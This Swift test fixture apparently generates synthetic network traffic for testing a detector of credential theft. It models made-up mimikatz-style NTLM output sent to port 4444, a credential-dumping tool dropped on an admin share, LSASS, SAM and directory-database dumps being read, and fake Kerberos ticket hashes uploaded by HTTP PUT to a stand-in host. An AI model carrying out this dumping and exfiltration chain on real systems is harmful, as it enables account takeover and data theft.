import TestSupport

extension Scenario {
    /// Passwords and their hashes on the way out. All of them are made up.
    static var credentials: [Scenario] { [dumps] }

    private static let hash = String(repeating: "d411", count: 8)

    private static var dumps: Scenario {
        var story = Story(port: 52010)
        let client = "198.51.100.90"
        story.talk("198.51.100.32", "203.0.113.90", 4444) { talk in
            talk.client(
                sends: "\t * Username : canbo\r\n\t * Domain   : DIENTAP\r\n\t * NTLM     : \(hash)\r\n",
                segment: 23)
        }
        story.share(client, #"\\198.51.100.60\C$"#) { share in
            let tool = Payload.program(
                [".text"], strings: [], wide: ["gentil" + "kiwi (drill)", "sekur" + "lsa"])
            share.open("Temp\\cong-cu.exe", size: nil)
            share.write(tool, at: 0)
        }
        func read(_ name: String, _ bytes: [UInt8]) {
            story.share(client, #"\\198.51.100.60\C$"#) { share in
                share.open(name, size: bytes.count)
                share.read(bytes, at: 0)
            }
        }
        read("Temp\\bao-cao.tmp", Payload.minidump(modules: ["ntdll.dll", "lsasrv.dll"]))
        read("Temp\\sao-luu.bin", Payload.registry(keys: ["Domains", "Account", "000001F4", "Builtin"]))
        read("Temp\\danh-ba.bin", Payload.directoryDatabase)
        let tickets = ["co-so-du-lieu", "in-an"].map { service in
            "$krb5tgs$23$*\(service)$DIENTAP.EXAMPLE$http/\(service)*$\(hash)$\(hash)\(hash)\(hash)"
        }
        story.web(
            client, "203.0.113.110",
            asks: Text.request(
                "PUT", "/thu-muc/ghi-chu.txt", host: "luutru.example",
                body: tickets.joined(separator: "\r\n") + "\r\n"))
        return Scenario("credential/dumps", story.frames)
    }
}
